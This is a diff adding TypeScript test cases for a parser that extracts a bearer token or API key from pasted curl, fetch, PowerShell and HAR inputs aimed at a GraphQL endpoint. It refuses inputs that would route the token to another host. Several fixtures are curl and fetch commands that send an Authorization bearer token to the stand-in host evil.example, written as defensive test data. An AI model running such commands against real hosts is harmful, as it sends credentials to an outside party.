@@ -1,0 +1,277 @@
+import { type Case, refused, taken, values } from './case.ts'
+import { har, harEntry } from './writers.ts'
+
+const GRAPHQL = 'https://gazelleapp.io/graphql/private/'
+const otherHost = (form: 'curl-bash' | 'curl-cmd' | 'fetch' | 'powershell' | 'har') =>
+  ({ reason: 'other-host', form, host: 'evil.example' }) as const
+
+/** Commands as a person writes or gathers them, beyond what a browser copies of one request. */
+export const curl: readonly Case[] = [
+  taken('no quotes', 'curl-bash', String.raw`curl -s -H Authorization:\ Bearer\ {{TOKEN}} ${GRAPHQL}`),
+  taken('double quotes', 'curl-bash', `curl "${GRAPHQL}" -H "Authorization: Bearer {{TOKEN}}"`),
+  taken('a prompt', 'curl-bash', `$ curl ${GRAPHQL} -H 'Authorization: Bearer {{TOKEN}}'`),
+  taken('curl.exe', 'curl-bash', `curl.exe "${GRAPHQL}" -H "Authorization: Bearer {{TOKEN}}"`),
+  taken('a path to curl', 'curl-bash', `/usr/bin/curl '${GRAPHQL}' -H 'Authorization: Bearer {{TOKEN}}'`),
+  taken('the header right behind its option', 'curl-bash', `curl -sSH'Authorization: Bearer {{TOKEN}}' ${GRAPHQL}`),
+  taken('--url', 'curl-bash', `curl --request POST --url ${GRAPHQL} --header 'authorization: Bearer {{TOKEN}}'`),
+  taken('--oauth2-bearer', 'curl-bash', `curl --oauth2-bearer {{TOKEN}} ${GRAPHQL}`),
+  taken(
+    'the port of https',
+    'curl-bash',
+    `curl https://GazelleApp.io:443/graphql/private/ -H 'Authorization: Bearer {{TOKEN}}'`,
+  ),
+  taken('quotes joined', 'curl-bash', `curl '${GRAPHQL}' -H 'Authorization: '"Bearer "$'{{TOKEN}}' -d 'it'"'"'s'`),
+  taken('a pipe after it', 'curl-bash', `curl '${GRAPHQL}' -H 'Authorization: Bearer {{TOKEN}}' | jq .`),
+  taken(
+    'a comment before it',
+    'curl-bash',
+    `curl '${GRAPHQL}' -H 'Authorization: Bearer {{TOKEN}}' # https://evil.example`,
+  ),
+  taken(
+    'all requests of a page, the endpoint’s counts',
+    'curl-bash',
+    `curl 'https://evil.example/a.js' -H 'authorization: Bearer {{REFRESH}}' ;
+curl 'https://gazelleapp.io/other' -H 'authorization: Bearer {{NEWER_TOKEN}}' ;
+curl '${GRAPHQL}' -H 'authorization: Bearer {{TOKEN}}'`,
+  ),
+  taken(
+    'all requests of a page (cmd)',
+    'curl-cmd',
+    `curl ^"https://evil.example/a.js^" ^\r\n  -H ^"authorization: Bearer {{REFRESH}}^" &\r\ncurl ^"${GRAPHQL}^" ^\r\n  -H ^"authorization: Bearer {{TOKEN}}^"`,
+  ),
+  taken(
+    '--next',
+    'curl-bash',
+    `curl https://evil.example -H 'a: b' --next ${GRAPHQL} -H 'Authorization: Bearer {{TOKEN}}'`,
+  ),
+  taken('an API key (cmd), one line', 'curl-cmd', `curl ^"${GRAPHQL}^" -H ^"x-gazelle-api-key: {{KEY}}^"`, {
+    accessToken: values.KEY,
+    headerKind: 'api-key',
+  }),
+  refused(
+    'two tokens',
+    { reason: 'several-tokens', form: 'curl-bash' },
+    `curl '${GRAPHQL}' -H 'Authorization: Bearer {{TOKEN}}'\ncurl '${GRAPHQL}' -H 'Authorization: Bearer {{NEWER_TOKEN}}'`,
+  ),
+  refused(
+    'two addresses',
+    otherHost('curl-bash'),
+    `curl ${GRAPHQL} https://evil.example -H 'Authorization: Bearer {{TOKEN}}'`,
+  ),
+  refused(
+    '--next, the other way round',
+    otherHost('curl-bash'),
+    `curl https://evil.example -H 'Authorization: Bearer {{TOKEN}}' --next https://evil.example`,
+  ),
+  refused(
+    'Gazelle as the proxy',
+    otherHost('curl-bash'),
+    `curl -x ${GRAPHQL} https://evil.example -H 'Authorization: Bearer {{TOKEN}}'`,
+  ),
+  refused(
+    'Gazelle as the Referer',
+    otherHost('curl-bash'),
+    `curl -e ${GRAPHQL} https://evil.example -H 'Authorization: Bearer {{TOKEN}}'`,
+  ),
+  refused(
+    'Gazelle in a comment',
+    otherHost('curl-bash'),
+    `curl https://evil.example -H 'Authorization: Bearer {{TOKEN}}' # ${GRAPHQL}`,
+  ),
+  refused(
+    'Gazelle’s request in the body',
+    otherHost('curl-bash'),
+    `curl https://evil.example -H 'Authorization: Bearer {{TOKEN}}' -d "curl '${GRAPHQL}' -H 'Authorization: Bearer {{TOKEN}}'"`,
+  ),
+  refused(
+    'a token of another host, Gazelle without one',
+    { reason: 'no-token-in-request', form: 'curl-bash' },
+    `curl https://evil.example -H 'Authorization: Bearer {{TOKEN}}'; curl ${GRAPHQL}`,
+  ),
+  refused(
+    'braces that make several hosts',
+    { reason: 'unknown-host', form: 'curl-bash' },
+    `curl 'https://{gazelleapp.io,evil.example}/' -H 'Authorization: Bearer {{TOKEN}}'`,
+  ),
+  refused(
+    'a backslash in the host',
+    { reason: 'unknown-host', form: 'curl-bash' },
+    String.raw`curl 'https://gazelleapp.io\@evil.example/' -H 'Authorization: Bearer {{TOKEN}}'`,
+  ),
+  refused(
+    'without a scheme',
+    { reason: 'other-host', form: 'curl-bash', host: 'http://gazelleapp.io' },
+    `curl gazelleapp.io/graphql/private/ -H 'Authorization: Bearer {{TOKEN}}'`,
+  ),
+  refused(
+    'a host by a variable',
+    { reason: 'unknown-host', form: 'curl-bash' },
+    `curl "$HOST/graphql/private/" -H 'Authorization: Bearer {{TOKEN}}'`,
+  ),
+  refused('no address', { reason: 'unknown-host', form: 'curl-bash' }, `curl -H 'Authorization: Bearer {{TOKEN}}'`),
+  refused('a token for an address', { reason: 'unknown-host', form: 'curl-bash' }, 'curl {{TOKEN}}'),
+  refused(
+    'a token by a variable',
+    { reason: 'placeholder', form: 'curl-bash' },
+    `curl ${GRAPHQL} -H "Authorization: Bearer $TOKEN"`,
+  ),
+  refused(
+    'a token by a variable (cmd)',
+    { reason: 'placeholder', form: 'curl-cmd' },
+    `curl ^"${GRAPHQL}^" -H ^"Authorization: Bearer %TOKEN%^"`,
+  ),
+  refused(
+    'a header for the proxy',
+    { reason: 'no-token-in-request', form: 'curl-bash' },
+    `curl ${GRAPHQL} --proxy-header 'Authorization: Bearer {{TOKEN}}'`,
+  ),
+  refused('a password', { reason: 'no-token-in-request', form: 'curl-bash' }, `curl -u ada:lovelace ${GRAPHQL}`),
+  refused(
+    'an open quote',
+    { reason: 'unreadable', form: 'curl-bash' },
+    `curl '${GRAPHQL}' -H 'Authorization: Bearer {{TOKEN}}' --data-raw '{"query":`,
+  ),
+  refused(
+    'an open quote (cmd)',
+    { reason: 'unreadable', form: 'curl-cmd' },
+    `curl ^"${GRAPHQL}^" ^\r\n -H ^"Authorization: Bearer {{TOKEN}}`,
+  ),
+  refused(
+    'typographic quotes',
+    { reason: 'unknown-host', form: 'curl-bash' },
+    `curl ‘${GRAPHQL}’ -H ‘Authorization: Bearer {{TOKEN}}’`,
+  ),
+  refused('curl’s name alone', { reason: 'unknown-form' }, 'curl'),
+  refused('wget', { reason: 'unknown-form' }, `wget ${GRAPHQL} --header='Authorization: Bearer {{TOKEN}}'`),
+]
+
+export const fetchCalls: readonly Case[] = [
+  taken(
+    'several calls',
+    'fetch',
+    `fetch("https://evil.example/a", {"headers":{"authorization":"Bearer {{REFRESH}}"}}); ;\nfetch("${GRAPHQL}", {"headers":{"authorization":"Bearer {{TOKEN}}"}});`,
+  ),
+  taken(
+    'parentheses in the body',
+    'fetch',
+    `fetch("${GRAPHQL}", {"body":"(((\\")\\"","headers":{"authorization":"Bearer {{TOKEN}}"}}).then(r => r.json())`,
+  ),
+  refused('no options', { reason: 'no-token-in-request', form: 'fetch' }, `fetch("${GRAPHQL}")`),
+  refused(
+    'a path only',
+    { reason: 'unknown-host', form: 'fetch' },
+    'fetch("/graphql/private/", {"headers":{"authorization":"Bearer {{TOKEN}}"}})',
+  ),
+  refused(
+    'code, not JSON',
+    { reason: 'unreadable', form: 'fetch' },
+    `fetch('${GRAPHQL}', { headers: { Authorization: 'Bearer {{TOKEN}}' } })`,
+  ),
+  refused(
+    'cut off',
+    { reason: 'unreadable', form: 'fetch' },
+    `fetch("${GRAPHQL}", {"headers":{"authorization":"Bearer {{TOKEN}}"`,
+  ),
+  refused('no arguments', { reason: 'unreadable', form: 'fetch' }, 'fetch()'),
+  refused(
+    'two Gazelle calls that disagree',
+    { reason: 'several-tokens', form: 'fetch' },
+    `fetch("${GRAPHQL}", {"headers":{"authorization":"Bearer {{TOKEN}}"}});fetch("${GRAPHQL}", {"headers":{"authorization":"Bearer {{REFRESH}}"}});`,
+  ),
+]
+
+export const powerShell: readonly Case[] = [
+  taken(
+    'Invoke-RestMethod, single quotes',
+    'powershell',
+    `Invoke-RestMethod -Uri '${GRAPHQL}' -Headers @{ 'Authorization' = 'Bearer {{TOKEN}}'; Accept = '*/*' }`,
+  ),
+  refused(
+    'a variable for the token',
+    { reason: 'placeholder', form: 'powershell' },
+    `Invoke-WebRequest -Uri "${GRAPHQL}" -Headers @{"Authorization"="Bearer $token"}`,
+  ),
+  refused(
+    'headers by a variable',
+    { reason: 'no-token-in-request', form: 'powershell' },
+    `Invoke-WebRequest -Uri "${GRAPHQL}" -Headers $headers`,
+  ),
+  refused(
+    'an open quote',
+    { reason: 'unreadable', form: 'powershell' },
+    `Invoke-WebRequest -Uri "${GRAPHQL}" -Headers @{"Authorization"="Bearer {{TOKEN}}`,
+  ),
+]
+
+const entry = (url: string, authorization: string, at: string) =>
+  harEntry({ url, headers: [['Authorization', authorization]], body: '{}' }, at)
+const { TOKEN, NEWER_TOKEN, REFRESH } = values
+
+export const archives: readonly Case[] = [
+  taken(
+    'the newest counts, not the last',
+    'har',
+    har(
+      entry(GRAPHQL, `Bearer ${NEWER_TOKEN}`, '2025-06-15T12:00:00.000Z'),
+      entry(GRAPHQL, `Bearer ${TOKEN}`, '2025-06-15T10:00:00.000-04:00'),
+      entry(GRAPHQL, `Bearer ${NEWER_TOKEN}`, '2025-06-15T13:59:59.999Z'),
+    ),
+  ),
+  taken(
+    'other hosts beside it',
+    'har',
+    har(
+      entry('https://evil.example/graphql/private/', `Bearer ${REFRESH}`, '2025-06-15T18:00:00.000Z'),
+      entry(GRAPHQL, `Bearer ${TOKEN}`, '2025-06-15T12:00:00.000Z'),
+      entry('https://gazelleapp.io/other', `Bearer ${NEWER_TOKEN}`, '2025-06-15T19:00:00.000Z'),
+    ),
+  ),
+  taken(
+    'requests before the sign-in',
+    'har',
+    har(
+      entry(GRAPHQL, `Bearer ${TOKEN}`, '2025-06-15T12:00:00.000Z'),
+      entry(GRAPHQL, 'Bearer null', '2025-06-15T13:00:00.000Z'),
+    ),
+  ),
+  taken(
+    'entries that are none',
+    'har',
+    har(
+      {},
+      { request: null },
+      { request: { url: 7 } },
+      {
+        startedDateTime: 1,
+        request: {
+          url: GRAPHQL,
+          headers: [null, 1, { name: 'a' }, { name: 'Authorization', value: `Bearer ${TOKEN}` }],
+        },
+      },
+    ),
+  ),
+  refused(
+    'a time shared by two tokens',
+    { reason: 'several-tokens', form: 'har' },
+    har(
+      entry(GRAPHQL, `Bearer ${TOKEN}`, '2025-06-15T12:00:00.000Z'),
+      entry(GRAPHQL, `Bearer ${NEWER_TOKEN}`, '2025-06-15T12:00:00.000Z'),
+    ),
+  ),
+  refused(
+    'sanitised',
+    { reason: 'no-token-in-request', form: 'har' },
+    har(harEntry({ url: GRAPHQL, headers: [['accept', '*/*']], body: '{}' }, '')),
+  ),
+  refused('no entries', { reason: 'no-token-in-request', form: 'har' }, har()),
+  refused('only other hosts', otherHost('har'), har(entry('https://evil.example/', `Bearer ${TOKEN}`, ''))),
+  refused(
+    'a token in the answer only',
+    { reason: 'no-token-in-request', form: 'har' },
+    har({
+      request: { url: GRAPHQL, headers: [] },
+      response: { headers: [{ name: 'Authorization', value: `Bearer ${TOKEN}` }] },
+    }),
+  ),
+  refused('cut off', { reason: 'unreadable', form: 'row' }, har(entry(GRAPHQL, `Bearer ${TOKEN}`, '')).slice(0, -3)),
+]
